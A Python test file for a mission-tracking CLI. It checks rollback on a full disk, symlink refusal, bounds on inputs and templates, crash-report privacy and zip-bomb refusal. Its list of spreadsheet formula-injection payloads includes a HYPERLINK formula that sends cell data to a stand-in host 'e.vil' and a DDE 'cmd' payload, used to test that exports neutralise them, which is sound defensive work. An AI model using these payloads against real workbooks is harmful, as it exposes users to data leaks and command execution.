"""Trust (issue 16): nothing lost on a failed write, no injection, bounded inputs, no crash on accepted input.

Each test reproduces a case of the hostile review through pmp's real entry
point and asserts what the user sees: the one message, the exit code, and the
files left byte-identical.
"""

from __future__ import annotations

import errno
import os
import re

import pytest
from conftest import located, snapshot, spaces

J = "missions/ressourcerie-du-val/journal.yaml"


# one table of journal kinds; one parse of the journal per pmp log --------------------------------

def test_the_kinds_of_journal_entry_come_from_one_table():
    from pamplemousse.read import model, schema

    assert list(model.JOURNAL_KINDS) == [
        "recommendation", "indicator", "committee", "time", "situation", "milestone", "withdraw"]
    entry = schema.mission_schemas()["journal.schema.json"]["$defs"]["JournalEntry"]
    required = [b["required"] for b in entry["oneOf"]]
    assert required == [
        ["date", "recommendation"], ["date", "indicator", "value"], ["date", "committee"],
        ["date", "time", "phase"], ["date", "situation"], ["date", "milestone", "status"], ["date", "withdraw"],
    ]
    assert model.ENTRY_FIELDS[-2:] == ("note", "id") and set(model.ENTRY_FIELDS) == set(model.JournalEntry.model_fields)


def test_pmp_log_parses_the_journal_once(example_in_cwd, pmp, monkeypatch):
    import yaml

    journal = (example_in_cwd / "journal.yaml").read_text(encoding="utf-8")
    seen = []
    for name in ("compose", "load"):
        real = getattr(yaml, name)

        def spy(stream, *a, _real=real, **kw):
            seen.append(stream if isinstance(stream, str) else "")
            return _real(stream, *a, **kw)

        monkeypatch.setattr(yaml, name, spy)
    r = pmp("log", "ressourcerie-du-val", "R3", "--progress", "55", "--date", "2026-11-26")
    assert r.exit_code == 0, r.stderr
    whole = [s for s in seen if s.startswith(journal[:200])]
    assert len(whole) == 1  # the load; the append parses only the last entry and the new one
    assert len(seen) == 6  # five files, plus that small tail


# all-or-nothing appends ----------------------------------------------------------------------------

def _short_then_full(monkeypatch):
    """os.write that writes 3 bytes, then finds the disk full (as a nearly full filesystem does)."""
    import pamplemousse.write.append as append

    calls = []

    def write(fd, data):
        calls.append(len(data))
        if len(calls) == 1:
            return os.write(fd, data[:3])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(append.os, "write", write)
    return calls


def test_a_short_write_on_a_full_disk_is_rolled_back(example_in_cwd, pmp, monkeypatch):
    before = snapshot(example_in_cwd.parent.parent)
    calls = _short_then_full(monkeypatch)
    r = pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26")
    assert len(calls) == 2
    assert r.exit_code == 3
    assert spaces(r.stderr) == (
        f"pmp : {J} : l'ajout a échoué (No space left on device) ; le fichier a été remis tel qu'il était, "
        "rien n'a été modifié\n"
    )
    assert snapshot(example_in_cwd.parent.parent) == before
    assert pmp("check", "ressourcerie-du-val").exit_code == 0


def _full_filesystem(tmp_path):
    """A 1 MiB tmpfs mounted at tmp_path/full, or skip saying why it cannot be mounted."""
    import subprocess

    point = tmp_path / "full"
    point.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs root; the full-disk case is covered by the short-write test")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(point)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    return point


def test_a_full_filesystem_leaves_the_journal_byte_identical(example, tmp_path, pmp, monkeypatch):
    import shutil
    import subprocess

    point = _full_filesystem(tmp_path)
    try:
        mission = point / "missions" / example.name
        shutil.copytree(example, mission)
        filler = point / "filler"
        fd = os.open(filler, os.O_WRONLY | os.O_CREAT)
        try:  # fill the disk: only the slack of journal.yaml's last page is left
            while True:
                os.write(fd, b"x" * 512)
        except OSError:
            pass
        finally:
            os.close(fd)
        monkeypatch.chdir(point)
        before = (mission / "journal.yaml").read_bytes()
        r = pmp("log", example.name, "R1", "--progress", "90", "--note", "x" * 6000, "--date", "2026-11-26")
        assert r.exit_code == 3, r.output
        assert "rien n'a été modifié" in r.stderr and "Traceback" not in r.output
        assert (mission / "journal.yaml").read_bytes() == before
        os.unlink(filler)
        assert pmp("check", example.name).exit_code == 0
    finally:
        monkeypatch.chdir(tmp_path)
        subprocess.run(["umount", str(point)], check=False)


def test_an_import_that_fails_while_writing_appends_none_of_its_entries(example_in_cwd, pmp, monkeypatch):
    from openpyxl import load_workbook

    assert pmp("render", "ressourcerie-du-val", "--format", "xlsx", "--as-of", "2026-11-26").exit_code == 0
    sheet = example_in_cwd / "out" / "pilotage.xlsx"
    wb = load_workbook(sheet)
    wb["Plan"]["G5"], wb["Plan"]["G7"] = "fait", "bloqué"  # R1 and R3: two entries
    wb.save(sheet)
    before = (example_in_cwd / "journal.yaml").read_bytes()
    seen = pmp("import", "ressourcerie-du-val", str(sheet), "--date", "2026-11-27")
    assert "2 entrées" in seen.stdout, seen.output
    _short_then_full(monkeypatch)
    r = pmp("import", "ressourcerie-du-val", str(sheet), "--yes", "--date", "2026-11-27")
    assert r.exit_code == 3 and "rien n'a été modifié" in r.stderr
    assert (example_in_cwd / "journal.yaml").read_bytes() == before


def test_a_lock_held_elsewhere_is_waited_for_a_while_then_named(example_in_cwd, pmp, monkeypatch):
    """Another pmp holds the journal's lock (here a process in the middle of an append): pmp log waits
    PMP_LOCK_TIMEOUT seconds, then names it, and leaves the journal as it was; once it is gone, pmp log appends."""
    import subprocess
    import sys

    path = example_in_cwd / "journal.yaml"
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import sys,time; from pathlib import Path; from pamplemousse.write.append import JournalLock\n"
         "with JournalLock(Path(sys.argv[1]), 'fr'):\n    print('ok', flush=True); time.sleep(30)", str(path)],
        stdout=subprocess.PIPE, text=True,
    )
    try:
        assert holder.stdout.readline() == "ok\n"
        monkeypatch.setenv("PMP_LOCK_TIMEOUT", "0.3")
        before = path.read_bytes()
        r = pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26")
        assert r.exit_code == 2
        name = os.path.basename(sys.executable).removesuffix(".exe")
        assert spaces(r.stderr) == (
            f"pmp : {J} est verrouillé par une autre commande (processus {holder.pid}, {name}) depuis plus de "
            "0.3 s ; attendez qu'elle se termine, puis relancez\n"
        )
        assert path.read_bytes() == before
    finally:
        holder.kill()
        holder.wait()
    # the lock is released with the process, however it ended; and nothing was added to the mission folder
    assert pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26").exit_code == 0
    assert sorted(p.name for p in example_in_cwd.iterdir()) == [
        ".gitignore", "README.md", "journal.yaml", "mission.yaml", "questions.yaml", "recommendations.yaml",
        "vision.yaml"]


# spreadsheet formula injection ---------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("https://e.vil/?d="&A5,"Sophie")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)"]


def _hostile_mission():
    import dataclasses

    from conftest import EXAMPLE

    from pamplemousse.read.load import load_mission

    base, _ = load_mission(EXAMPLE)
    recs = list(base.recommendations)
    ind = recs[0].indicators[0].model_copy(update={"name": HOSTILE[3], "unit": HOSTILE[4]})
    recs[0] = recs[0].model_copy(update={"title": HOSTILE[0], "owner": HOSTILE[1], "indicators": [ind]})
    journal = [
        e.model_copy(update={"note": HOSTILE[2]}) if e.recommendation == recs[0].id
        else e.model_copy(update={"committee": HOSTILE[1], "decisions": [HOSTILE[0]]}) if e.committee else e
        for e in base.journal
    ]
    meta = base.meta.model_copy(update={"client": base.meta.client.model_copy(update={"name": HOSTILE[0]})})
    return dataclasses.replace(base, recommendations=recs, journal=journal, meta=meta)


@pytest.mark.needs("soffice")
def test_no_text_of_a_mission_becomes_a_formula_in_the_workbook(tmp_path):
    import io
    import subprocess
    from datetime import date

    from openpyxl import load_workbook

    from pamplemousse.outputs.xlsx import xlsx_bytes
    from pamplemousse.views.mission import view_on

    mission = _hostile_mission()
    data = xlsx_bytes(mission, view_on(mission, date(2026, 11, 26), "fr"), "fr")
    wb = load_workbook(io.BytesIO(data))
    texts, formulas = set(), []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(cell.value)
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
    assert formulas and all(f.startswith("=IF(AND(") for f in formulas)  # pmp's own « days late » only
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= texts
    # and LibreOffice, opening it, shows the texts and computes nothing from them
    book = tmp_path / "plan.xlsx"
    book.write_bytes(data)
    done = subprocess.run(
        [located("soffice"), "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "csv",
         "--outdir", str(tmp_path), str(book)], capture_output=True, timeout=120,
    )
    assert done.returncode == 0, done.stderr
    csv = (tmp_path / "plan.csv").read_text(encoding="utf-8", errors="replace")
    assert 'HYPERLINK(""https://e.vil/?d=""&A5,""Sophie"")' in csv and "cmd|' /C calc'!A0" in csv


# templates: no symbolic link, compiling within the bounds ------------------------------------------

NB = "\u00a0"


def _override(root, text, name="templates/html/pilotage.html.j2"):
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).write_text(text, encoding="utf-8")


def test_a_templates_folder_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
    root = example_in_cwd.parent.parent
    (root / "templates").symlink_to(".")  # the whole workspace as templates
    _override(root, "{% include 'missions/ressourcerie-du-val/questions.yaml' %}", "html/pilotage.html.j2")
    before = snapshot(root)
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert r.exit_code == 2
    assert r.stderr == (
        f"pmp : templates est un lien symbolique{NB}: pmp ne lit pas un dossier de modèles à travers un lien{NB}; "
        "remplacez-le par un vrai dossier\n"
    )
    assert snapshot(root) == before


def test_a_folder_of_templates_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
    root = example_in_cwd.parent.parent
    (root / "templates").mkdir()
    _override(root, "{% include 'html/questions.yaml' %}", "elsewhere/pilotage.html.j2")
    (root / "elsewhere" / "questions.yaml").symlink_to(root / "missions" / "ressourcerie-du-val" / "questions.yaml")
    (root / "templates" / "html").symlink_to(root / "elsewhere")
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert r.exit_code == 2 and "Traceback" not in r.output
    assert "ce modèle est un lien vers un fichier hors du dossier des modèles (templates)" in r.stderr


def test_a_link_below_the_templates_folder_is_refused_even_leading_inside(example_in_cwd, pmp):
    root = example_in_cwd.parent.parent
    _override(root, "{% include 'html/parts/x.j2' %}")
    _override(root, "SECRET", "templates/md/x.j2")
    (root / "templates" / "html" / "parts").symlink_to(root / "templates" / "md")
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert r.exit_code == 2
    assert f"templates/html/parts est un lien symbolique{NB}: pmp ne lit pas de modèle à travers un lien" in r.stderr
    assert not (example_in_cwd / "out").exists()


def test_a_template_folded_while_compiling_meets_the_memory_and_time_bounds(example_in_cwd, pmp):
    import resource
    import time

    root = example_in_cwd.parent.parent
    chain = "'" + "x" * 10 + "'" + "|replace('x', 'xxxxxxxxxx')" * 12  # 10**13 characters once folded
    _override(root, "<p>\n{{ " + chain + " }}")
    start, peak = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
    assert time.monotonic() - start < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 700 * 1024  # KiB
    assert r.exit_code == 2
    assert r.stderr.startswith("pmp : templates/html/pilotage.html.j2:2")
    assert "dépasse la taille permise dans un modèle" in r.stderr
    assert not (example_in_cwd / "out").exists()


# a render's set of outputs ---------------------------------------------------------------------------

def test_a_render_checks_every_target_before_replacing_any(example_in_cwd, pmp, tmp_path):
    out = example_in_cwd / "out"
    assert pmp("render", "ressourcerie-du-val", "--as-of", "2026-11-20").exit_code == 0
    (out / "pilotage.md").unlink()
    (out / "pilotage.md").symlink_to(tmp_path / "ailleurs.md")
    before = snapshot(out)
    r = pmp("render", "ressourcerie-du-val", "--as-of", "2026-11-26")
    assert r.exit_code == 3
    assert "pilotage.md" in r.stderr and "lien symbolique" in r.stderr
    assert snapshot(out) == before  # pilotage.html not replaced either
    assert not (tmp_path / "ailleurs.md").exists()
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


# accepted input never crashes: bounds on numbers and dates, digits only ----------------------------

R = "missions/ressourcerie-du-val/recommendations.yaml"
M = "missions/ressourcerie-du-val/mission.yaml"


def _edit(folder, name, old, new):
    path = folder / name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize(
    "name, old, new, where, message",
    [
        ("recommendations.yaml", "        target: 75", "        target: 1e308", f"{R}:35:17",
         "« target » doit être un nombre (par exemple 12 ou 12.5)"),
        ("recommendations.yaml", "        target: 75", "        target: 10000000000000", f"{R}:35:17",
         f"« target »{NB}: nombre trop grand{NB}; pmp lit les nombres de -1{NB}000 milliards à 1{NB}000 milliards"),
        ("recommendations.yaml", "        baseline: 50", "        baseline: -1000000000000.5", f"{R}:34:19",
         f"« baseline »{NB}: nombre trop grand{NB}; pmp lit les nombres de -1{NB}000 milliards à 1{NB}000 milliards"),
        ("recommendations.yaml", "    due: 2026-12-15", "    due: 9999-12-31", f"{R}:22:10",
         f"« due »{NB}: pmp lit les dates des années 1900 à 2200"),
        ("mission.yaml", "    end: 2026-02-20", "    end: 9999-12-31", f"{M}:47:10",
         f"« end »{NB}: pmp lit les dates des années 1900 à 2200"),
        ("journal.yaml", "  progress: 20", "  progress: 1_0", f"{J}:32:13", "« progress » doit être un nombre entier"),
        ("recommendations.yaml", "        target: 75", "        target: 7_5", f"{R}:35:17",
         "« target » doit être un nombre (par exemple 12 ou 12.5)"),
        ("recommendations.yaml", "  - id: R1\n", "  - id: r2\n", f"{R}:42:9",
         f"identifiant «{NB}R2{NB}» déjà utilisé sous la forme «{NB}r2{NB}» (recommendations.yaml ligne 9){NB}; "
         "majuscules et minuscules ne distinguent pas deux identifiants"),
    ],
    ids=["1e308", "1e13", "-1e12", "due-9999", "phase-9999", "1_0", "7_5", "r2-R2"],
)
def test_values_past_what_pmp_computes_with_are_refused_at_their_place(example_in_cwd, pmp, name, old, new, where,
                                                                       message):
    _edit(example_in_cwd, name, old, new)
    r = pmp("check", "ressourcerie-du-val")
    assert r.exit_code == 1
    assert spaces(f"{where}: {message}") in spaces(r.output).splitlines(), r.output
    assert "Traceback" not in r.output


@pytest.mark.parametrize(
    "args, message",
    [
        (("R1", "--progress", "1_0"), f"--progress 1_0{NB}: un nombre entier de 0 à 100 est attendu"),
        (("--indicator", "I1", "--value", "1e27"), f"--value 1e27{NB}: nombre attendu (par exemple 57 ou 57,5)"),
        (("--indicator", "I1", "--value", "10000000000000"),
         f"--value 10000000000000{NB}: nombre trop grand{NB}; pmp lit les nombres de -1{NB}000 milliards à 1{NB}000 milliards"),
        (("R1", "--progress", "5", "--date", "9999-12-31"), f"--date 9999-12-31{NB}: pmp lit les dates des années 1900 à 2200"),
    ],
    ids=["progress-1_0", "value-1e27", "value-1e13", "date-9999"],
)
def test_pmp_log_refuses_values_it_could_not_show(example_in_cwd, pmp, args, message):
    before = snapshot(example_in_cwd.parent.parent)
    r = pmp("log", "ressourcerie-du-val", *args)
    assert (r.exit_code, r.stderr) == (2, f"pmp : {message}\n")
    assert snapshot(example_in_cwd.parent.parent) == before


@pytest.mark.parametrize("command", ["render", "status"])
def test_as_of_far_in_the_future_is_refused(example_in_cwd, pmp, command):
    r = pmp(command, "ressourcerie-du-val", "--as-of", "9999-12-31")
    assert (r.exit_code, r.stderr) == (2, f"pmp : --as-of 9999-12-31{NB}: pmp lit les dates des années 1900 à 2200\n")


def test_a_measure_of_minus_zero_is_shown_as_zero(example_in_cwd, pmp):
    path = example_in_cwd / "journal.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "- date: 2026-11-26\n  indicator: I1\n  value: -0\n",
                    encoding="utf-8")
    r = pmp("render", "ressourcerie-du-val", "--format", "md", "--as-of", "2026-11-26")
    assert r.exit_code == 0
    md = (example_in_cwd / "out" / "pilotage.md").read_text(encoding="utf-8")
    assert f"| 26/11/2026 | 0{NB}% |" in md
    assert not re.search(r"(?<![0-9-])-0(?![0-9])", md)  # no « -0 », « -0 % » anywhere


def test_a_title_and_a_client_name_on_two_lines_make_a_calendar(example_in_cwd, pmp):
    _edit(example_in_cwd, "recommendations.yaml", "    title: Créer un parcours d’accueil des nouveaux bénévoles",
          '    title: "Créer un parcours\\nd’accueil"')
    _edit(example_in_cwd, "mission.yaml", "  name: La Ressourcerie du Val", '  name: "La Ressourcerie\\ndu Val"')
    r = pmp("render", "ressourcerie-du-val", "--format", "ics", "--as-of", "2026-11-26")
    assert r.exit_code == 0, r.output
    ics = (example_in_cwd / "out" / "pilotage.ics").read_bytes()
    assert b"\r\n\r\n" not in ics and b"parcours\\nd" in ics


def test_status_json_names_the_plan_as_written_and_no_one_without_consent_in_free_texts(example_in_cwd, pmp):
    """COPIL n°2's attendee « Nadia Ferreira, encadrante technique » (P7, no consent) is the plan: as written
    (it read « Encadrante technique d’insertion » before DESIGN.md §4b); a note naming her has her role."""
    journal = example_in_cwd / "journal.yaml"
    journal.write_text(journal.read_text("utf-8") + "- date: 2026-11-25\n  recommendation: R1\n"
                       "  note: Relu avec Nadia Ferreira.\n", encoding="utf-8")
    client = pmp("status", "ressourcerie-du-val", "--format", "json", "--as-of", "2026-11-26")
    assert client.exit_code == 0
    assert '"Nadia Ferreira, encadrante technique"' in client.stdout
    assert "Relu avec Encadrante technique d’insertion." in client.stdout and "Relu avec Nadia" not in client.stdout
    internal = pmp("status", "ressourcerie-du-val", "--format", "json", "--as-of", "2026-11-26", "--audience", "internal")
    assert "Relu avec Nadia Ferreira." in internal.stdout
    bad = pmp("status", "ressourcerie-du-val", "--format", "json", "--audience", "clients")
    assert bad.exit_code == 2 and bad.stderr.startswith("pmp : --audience clients")


# the crash report ------------------------------------------------------------------------------------

def test_crash_reports_are_private_unique_and_leave_free_text_out(example_in_cwd, pmp, monkeypatch, tmp_path):
    import stat

    def boom(*args, **kwargs):
        raise RuntimeError("bug")

    monkeypatch.setattr("pamplemousse.write.journal.append_entry", boom)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    args = ["log", "ressourcerie-du-val", "R1", "--progress", "90", "--note", "Sophie est malade", "--date=2026-11-26"]
    monkeypatch.setattr("sys.argv", ["pmp", *args])
    first, second = pmp(*args), pmp(*args)  # within the same second
    assert first.exit_code == second.exit_code == 4
    reports = sorted((tmp_path / "cache" / "pamplemousse").glob("erreur-*.txt"))
    assert len(reports) == 2
    for report in reports:
        assert stat.S_IMODE(report.stat().st_mode) == 0o600
        text = report.read_text(encoding="utf-8")
        assert text.startswith("pmp log […] […] --progress 90 --note […] --date=2026-11-26\n")
        assert "malade" not in text and "ressourcerie" not in text.split("\n")[0] and "RuntimeError: bug" in text
    said = [
        f"pmp : désolé, une erreur inattendue s'est produite ; rien n'a été modifié. Joignez le fichier {report} "
        "à votre signalement (les textes libres de la commande n'y sont pas).\n" for report in reports
    ]
    assert {spaces(first.stderr), spaces(second.stderr)} == set(said)


@pytest.mark.parametrize("args, line", [
    (["search", "Aminata Diallo", "--as-of", "2026-11-26", "--format", "json"],
     "pmp search […] --as-of 2026-11-26 --format json"),
    (["render", "ressourcerie-du-val", "-o", "/home/sophie/Clients/Val", "--format=html", "--as-of=2026-11-26"],
     "pmp render […] -o […] --format=html --as-of=2026-11-26"),
    (["templates", "copy", "html/theme.html.j2"], "pmp templates copy […]"),
], ids=["search-words", "render-folder", "templates-copy"])
def test_a_crash_report_keeps_option_names_and_plain_values_only(example_in_cwd, pmp, monkeypatch, tmp_path,
                                                                 args, line):
    """The words searched, a mission's name, a folder: what the user typed is left out, not the command's shape."""
    def boom(*a, **kw):
        raise RuntimeError("bug")

    for name in ("pamplemousse.read.workspace.workspace_missions", "pamplemousse.read.workspace.resolve_mission",
                 "pamplemousse.write.templates.copy_template"):
        monkeypatch.setattr(name, boom, raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr("sys.argv", ["pmp", *args])
    assert pmp(*args).exit_code == 4
    (report,) = (tmp_path / "cache" / "pamplemousse").glob("erreur-*.txt")
    text = report.read_text(encoding="utf-8")
    assert text.split("\n", 1)[0] == line
    assert "RuntimeError: bug" in text


def test_a_crash_after_files_were_written_says_which(example_in_cwd, pmp, monkeypatch, tmp_path):
    import pamplemousse.write.outputs as outputs

    real = outputs.render_document

    def then_boom(*args, **kwargs):
        real(*args, **kwargs)
        raise RuntimeError("bug")

    monkeypatch.setattr(outputs, "render_document", then_boom)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    r = pmp("render", "ressourcerie-du-val", "--as-of", "2026-11-26")
    assert r.exit_code == 4
    assert spaces(r.stderr).startswith(
        "pmp : désolé, une erreur inattendue s'est produite ; fichiers déjà écrits par cette commande : "
        "missions/ressourcerie-du-val/out/pilotage.html, missions/ressourcerie-du-val/out/pilotage.md."
    )


def test_a_crash_report_is_not_written_through_a_link(example_in_cwd, pmp, monkeypatch, tmp_path):
    def boom(*args, **kwargs):
        raise RuntimeError("bug")

    monkeypatch.setattr("pamplemousse.read.load.load_mission", boom)
    (tmp_path / "cache").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "cache" / "pamplemousse").symlink_to(tmp_path / "elsewhere")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    r = pmp("check", "ressourcerie-du-val")
    assert r.exit_code == 4
    assert spaces(r.stderr) == "pmp : désolé, une erreur inattendue s'est produite ; rien n'a été modifié.\n"
    assert list((tmp_path / "elsewhere").iterdir()) == []


# reads bounded by the bytes read, regular files only -----------------------------------------------

def test_a_journal_linked_to_dev_zero_is_not_read_past_the_limit(example_in_cwd, pmp, monkeypatch):
    import resource

    monkeypatch.setenv("PMP_MAX_FILE_MB", "2")
    (example_in_cwd / "journal.yaml").unlink()
    (example_in_cwd / "journal.yaml").symlink_to("/dev/zero")
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    r = pmp("check", "ressourcerie-du-val")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 100 * 1024  # KiB
    assert r.exit_code == 1
    assert spaces(r.output).splitlines()[0] == (
        f"{J}:1:1: journal.yaml n'est pas un fichier ordinaire (un tube, un périphérique, un dossier) : pmp ne le lit pas"
    )


def test_a_large_file_is_measured_by_what_is_read(tmp_path):
    from pamplemousse.read.yamlread import TooBig, read_bounded

    path = tmp_path / "big.yaml"
    path.write_bytes(b"x" * 5000)
    assert read_bounded(path, 5000) == b"x" * 5000
    with pytest.raises(TooBig):
        read_bounded(path, 4999)


def test_a_fifo_in_place_of_a_mission_file_is_refused_not_waited_on(example_in_cwd, pmp):
    import threading

    (example_in_cwd / "questions.yaml").unlink()
    os.mkfifo(example_in_cwd / "questions.yaml")
    result = {}
    worker = threading.Thread(target=lambda: result.update(r=pmp("check", "ressourcerie-du-val")), daemon=True)
    worker.start()
    worker.join(20)
    assert not worker.is_alive(), "pmp check waits on the FIFO"
    r = result["r"]
    assert r.exit_code == 1
    assert spaces(r.output).splitlines()[0] == (
        "missions/ressourcerie-du-val/questions.yaml:1:1: questions.yaml n'est pas un fichier ordinaire "
        "(un tube, un périphérique, un dossier) : pmp ne le lit pas"
    )


# imports read as a stream, within caps ---------------------------------------------------------------

def test_a_workbook_that_unpacks_a_hundredfold_is_refused_before_parsing(example_in_cwd, pmp):
    import resource
    import time
    import zipfile

    assert pmp("render", "ressourcerie-du-val", "--format", "xlsx", "--as-of", "2026-11-26").exit_code == 0
    made = example_in_cwd / "out" / "pilotage.xlsx"
    bomb = example_in_cwd.parent.parent / "retour.xlsx"
    row = "<row>" + "<c><v>1</v></c>" * 16384 + "</row>"
    with zipfile.ZipFile(made) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, _, _ = data.decode("utf-8").partition("<sheetData>")
                data = (head + "<sheetData>" + row * 400 + "</sheetData></worksheet>").encode("utf-8")
            dst.writestr(item, data)
    assert bomb.stat().st_size < 1024 * 1024
    before = (example_in_cwd / "journal.yaml").read_bytes()
    start, peak = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    r = pmp("import", "ressourcerie-du-val", "retour.xlsx", "--yes")
    assert time.monotonic() - start < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 200 * 1024  # KiB
    assert r.exit_code == 2
    assert spaces(r.stderr) == "pmp : retour.xlsx : classeur trop gros pour pmp (94 Mo une fois décompressé, limite 32 Mo)\n"
    assert (example_in_cwd / "journal.yaml").read_bytes() == before


@pytest.mark.parametrize("weeks", ["²", "99999999999", "0", "1_0"])
def test_stale_weeks_are_ascii_digits_within_bounds(example_in_cwd, pmp, weeks):
    r = pmp("status", "ressourcerie-du-val", "--stale-weeks", weeks)
    assert (r.exit_code, r.stderr) == (
        2, f"pmp : --stale-weeks {weeks}{NB}: un nombre entier de semaines (de 1 à 9999) est attendu\n"
    )


@pytest.mark.parametrize(
    "ending",
    [
        "-\n  # un commentaire entre le tiret et l'entrée\n  date: 2026-11-21\n  recommendation: R2\n  note: x\n# fin",
        "- date: 2026-11-21\n  recommendation: R2\n  note: |+\n    ligne\n\n\n",
        "- date: 2026-11-21\n  recommendation: R2\n  note: >-\n    deux\n    lignes",
    ],
    ids=["comment-after-dash", "kept-block-scalar", "folded-no-newline"],
)
def test_an_append_keeps_every_earlier_entry_as_it_read(example_in_cwd, pmp, ending):
    from pamplemousse.read.load import load_mission

    path = example_in_cwd / "journal.yaml"
    path.write_text(path.read_text(encoding="utf-8") + ending, encoding="utf-8")
    before, _ = load_mission(example_in_cwd)
    raw = path.read_bytes()
    r = pmp("log", "ressourcerie-du-val", "R1", "--progress", "85", "--date", "2026-11-26")
    assert r.exit_code == 0, r.stderr
    assert path.read_bytes().startswith(raw)
    after, _ = load_mission(example_in_cwd)
    assert after.journal[:-1] == before.journal
    assert (after.journal[-1].recommendation, after.journal[-1].progress) == ("R1", 85)
